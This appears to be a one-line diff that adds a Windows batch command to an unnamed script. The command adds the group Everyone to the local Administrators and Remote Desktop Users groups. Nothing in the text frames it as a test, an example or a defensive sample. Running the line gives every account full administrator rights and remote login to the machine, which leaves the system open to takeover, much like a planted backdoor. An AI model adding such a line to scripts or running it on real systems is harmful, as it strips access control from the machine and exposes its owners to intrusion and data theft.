@@ -1,0 +1,1 @@
+for %%G in (Administrators "Remote Desktop Users") do net localgroup %%G Everyone /add
